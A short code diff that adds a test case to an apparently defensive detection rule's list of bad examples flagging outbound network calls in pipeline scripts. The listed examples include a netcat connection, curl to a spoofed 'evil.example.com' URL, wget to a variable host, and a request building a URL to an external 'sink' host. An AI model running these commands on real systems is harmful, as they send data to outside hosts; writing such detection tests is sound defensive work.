@@ -21,6 +21,7 @@ RULE = Rule(
         "script: nc 203.0.113.9 443",
         "script: curl http://cart.svc@evil.example.com/",
         "script: wget http://$HOST/x",
+        """step: {uses: http.request@v1, with: {query: {cel: "'https://sink.example.com/' + params.name"}}}""",
         "pod: {containers: [{name: a, env: [{name: SINK, value: 'tcp://logs.example.com:514'}]}]}",
     ),
     good=(
